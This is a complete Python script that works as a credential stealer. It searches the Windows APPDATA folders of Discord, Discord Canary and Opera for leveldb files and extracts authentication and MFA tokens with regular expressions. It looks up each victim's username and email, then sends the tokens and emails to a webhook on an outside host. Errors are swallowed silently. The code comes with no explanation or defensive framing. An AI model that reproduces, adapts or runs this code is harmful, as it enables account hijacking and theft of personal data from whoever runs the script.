import os, re, json
from urllib.request import Request, urlopen

HEAD = {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}


def tokens(path):
    path += "\\Local Storage\\leveldb"
    out = []
    for name in os.listdir(path):
        if not name.endswith(".log") and not name.endswith(".ldb"):
            continue
        for line in [x.strip() for x in open(f"{path}\\{name}", errors="ignore").readlines() if x.strip()]:
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                out += re.findall(regex, line)
    return out


def who(token):
    return json.loads(urlopen(Request("https://chat.example.invalid/api/v9/users/@me", headers={**HEAD, "Authorization": token})).read())


def main():
    roaming = os.getenv("APPDATA")
    embeds = []
    for path in (roaming + "\\Discord", roaming + "\\discordcanary", roaming + "\\Opera Software\\Opera Stable"):
        if os.path.exists(path):
            for token in tokens(path):
                user = who(token)
                embeds.append({"title": user.get("username"), "description": token, "fields": [{"name": "mail", "value": user.get("email")}]})
    urlopen(Request("https://hk.example.invalid/api/webhooks/1/n", data=json.dumps({"embeds": embeds}).encode(), headers=HEAD))


try:
    main()
except Exception:
    pass
